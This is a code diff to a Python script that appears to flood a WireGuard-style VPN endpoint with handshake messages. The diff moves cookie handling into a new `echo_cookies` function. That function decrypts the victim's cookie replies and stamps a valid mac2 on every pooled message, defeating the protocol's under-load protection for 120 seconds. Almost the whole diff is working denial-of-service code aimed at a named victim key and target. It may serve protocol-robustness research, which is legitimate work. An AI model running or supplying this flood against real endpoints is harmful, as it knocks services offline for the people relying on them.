@@ -35,6 +35,7 @@ import contextlib
 import json
 import os
 import re
+import socket
 import subprocess
 import sys
 import threading
@@ -129,9 +130,35 @@ def attack_c(args: argparse.Namespace, pool: list[bytearray]) -> None:
         subprocess.run(command, check=True, timeout=args.seconds + 30)
 
 
-def attack(args: argparse.Namespace) -> None:
-    import socket
+def echo_cookies(sock: socket.socket, cookie_key: bytes, pool: list[bytearray],
+                 mac1s: dict[int, bytes], stats: dict[str, int]) -> bool:  # fmt: skip
+    """Mode b: read V's cookie replies; with one decrypted, a valid mac2 on every message
+    of the pool from now on (the cookie lasts 120 s). Whether a cookie was set."""
+    cookie_set = False
+    for _ in range(64):
+        try:
+            reply = sock.recv(2048)
+        except BlockingIOError:
+            break
+        stats["replies_read"] += 1
+        if len(reply) != COOKIE_REPLY_LEN or reply[0] != MSG_COOKIE_REPLY:
+            continue
+        m = parse_cookie_reply(reply)
+        mac1 = mac1s.get(m.receiver)
+        if mac1 is None:
+            continue
+        try:
+            cookie = xaead_decrypt(cookie_key, m.nonce, m.cookie, mac1)
+        except InvalidTag:
+            continue
+        stats["cookies"] += 1
+        for msg in pool:
+            msg[-16:] = mac(cookie, bytes(msg[:-16]))
+        cookie_set = True
+    return cookie_set
 
+
+def attack(args: argparse.Namespace) -> None:
     victim_pub = bytes.fromhex(args.victim_pub)
     target = (args.target, PORT)
     pool, mac1s = build_pool(victim_pub, args.pool)
@@ -174,26 +201,7 @@ def attack(args: argparse.Namespace) -> None:
         if cookie_set:
             stats["mac2_sent"] += n
         if args.mode == "b":  # read the cookie replies; put mac2 on what follows
-            for _ in range(64):
-                try:
-                    reply = socks[0].recv(2048)
-                except BlockingIOError:
-                    break
-                stats["replies_read"] += 1
-                if len(reply) != COOKIE_REPLY_LEN or reply[0] != MSG_COOKIE_REPLY:
-                    continue
-                m = parse_cookie_reply(reply)
-                mac1 = mac1s.get(m.receiver)
-                if mac1 is None:
-                    continue
-                try:
-                    cookie = xaead_decrypt(cookie_key, m.nonce, m.cookie, mac1)
-                except InvalidTag:
-                    continue
-                stats["cookies"] += 1
-                for msg in pool:  # a valid mac2 from now on (the cookie lasts 120 s)
-                    msg[-16:] = mac(cookie, bytes(msg[:-16]))
-                cookie_set = True
+            cookie_set = echo_cookies(socks[0], cookie_key, pool, mac1s, stats) or cookie_set
     stats["elapsed"] = time.monotonic() - start  # type: ignore[assignment]
     print(json.dumps(stats), flush=True)
 
